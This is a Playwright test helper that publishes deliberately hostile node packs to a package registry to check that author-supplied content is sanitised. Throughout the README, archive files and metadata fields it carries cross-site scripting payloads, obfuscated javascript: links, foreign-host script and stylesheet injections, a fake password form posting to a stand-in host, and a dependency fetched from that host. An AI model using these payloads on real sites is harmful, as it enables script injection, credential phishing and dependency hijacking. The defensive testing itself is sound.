import { randomUUID } from 'node:crypto'
import { expect, type APIRequestContext } from '@playwright/test'
import { zipOf } from '../../src/server/review/archive/zip-for-tests'
import { publish, signUp } from './author'

/** A third-party host. */
export const FOREIGN = 'foreign.example'

const RUN = 'window.attacked=1'
const IMAGE = `<img src=x onerror="${RUN}">`
const SCRIPT = `"></script><script>${RUN}</script>${IMAGE}{{${RUN}}}`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="https://${FOREIGN}/in-svg.png"/></svg>`

const README = `# ${SCRIPT}

<script>${RUN}</script>
<script src="https://${FOREIGN}/a.js"></script>
<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.attacked=1</script>"></iframe>
<object data="https://${FOREIGN}/o"></object><embed src="https://${FOREIGN}/e">
<style>@import url(https://${FOREIGN}/s.css); body { display: none }</style>
<link rel="stylesheet" href="https://${FOREIGN}/l.css"><base href="https://${FOREIGN}/">
<meta http-equiv="refresh" content="0;url=https://${FOREIGN}/m">
<form action="https://${FOREIGN}/f"><input name="password" autofocus onfocus="${RUN}"><button>Log in</button></form>
<svg onload="${RUN}"><image href="https://${FOREIGN}/i.png"/></svg>
<video src="https://${FOREIGN}/v.mp4" poster="https://${FOREIGN}/p.png" autoplay onerror="${RUN}"></video>
<p style="position:fixed;inset:0;background:url(https://${FOREIGN}/b.png)" onmouseover="${RUN}">over everything</p>
<p id="__NEXT_DATA__" class="fixed inset-0">clobbered</p>

![from elsewhere](https://${FOREIGN}/readme.png) ![script](javascript:${RUN}) <img src="//${FOREIGN}/x.png" srcset="https://${FOREIGN}/2x.png 2x">

![missing &lt;img src=x onerror=${RUN}&gt;](https://nowhere.githubusercontent.com/a.png)

[click me](javascript:${RUN}) [or me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<a href="&#106;avascript:${RUN}">encoded</a> <a href="java\tscript:${RUN}">split</a> <a href="https://${FOREIGN}/" ping="https://${FOREIGN}/ping" target="_self">elsewhere</a>
`

const CLASSES = `
class Evil:
    """${IMAGE}"""
    RETURN_TYPES = ("IMAGE",)
    RETURN_NAMES = ("${IMAGE.replaceAll('"', '\\"')}",)
    FUNCTION = "run"
    CATEGORY = "${IMAGE.replaceAll('"', '\\"')}"
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"${IMAGE.replaceAll('"', '\\"')}": ("IMAGE", {"tooltip": "${IMAGE.replaceAll('"', '\\"')}"})}}

NODE_CLASS_MAPPINGS = {"${IMAGE.replaceAll('"', '\\"')}": Evil}
`

const archive = (id: string) =>
  zipOf({
    'pyproject.toml': `[project]\nname = "${id}"\nversion = "1.0.0"\n[tool.comfy]\nIcon = "icon.svg"\n`,
    '__init__.py': CLASSES,
    'README.md': README,
    'requirements.txt': `${IMAGE}\njavascript:${RUN}\nnumpy @ https://${FOREIGN}/numpy.whl\n`,
    LICENSE: SCRIPT,
    'icon.svg': SVG,
  })

/**
 * Publishes a pack whose every text, link and image is malicious, and two more with images on third-party hosts, as an author
 * would. Returns their ids.
 */
export async function publishHostilePacks(request: APIRequestContext) {
  const publisherId = `evil-${randomUUID().slice(0, 8)}`
  const call = await signUp(request, `${publisherId}@example.com`, SCRIPT)

  await call('POST', '/publishers', {
    id: publisherId,
    // The exact name of another publisher would hold the packs back.
    name: `${publisherId} ${SCRIPT}`,
    description: SCRIPT,
    website: `https://${FOREIGN}/"onmouseover="${RUN}`,
    support: `https://${FOREIGN}/'onmouseover='${RUN}`,
  })
  const { token } = await call('POST', `/publishers/${publisherId}/tokens`, { name: 'evil' })

  const publishHostile = async (id: string, pictures: object) => {
    await publish(request, {
      publisherId,
      token: String(token),
      node: {
        id,
        name: `${publisherId} ${SCRIPT}`,
        description: SCRIPT,
        author: SCRIPT,
        license: JSON.stringify({ text: SCRIPT }),
        repository: `https://${FOREIGN}/${id}"onerror="${RUN}`,
        tags: [IMAGE],
        ...pictures,
      },
      version: '1.0.0',
      about: { changelog: README, dependencies: [IMAGE] },
      archive: archive(id),
    })
    const reviewed = async () => (await request.get(`/api/nodes/${id}/versions/1.0.0/contents`)).status()
    await expect.poll(reviewed).toBe(200)
    return id
  }
  return {
    publisherId,
    ids: [
      await publishHostile(`${publisherId}-archived`, {}),
      await publishHostile(`${publisherId}-foreign`, {
        icon: `https://${FOREIGN}/icon.png`,
        banner_url: `https://${FOREIGN}/banner.png`,
      }),
    ],
  }
}
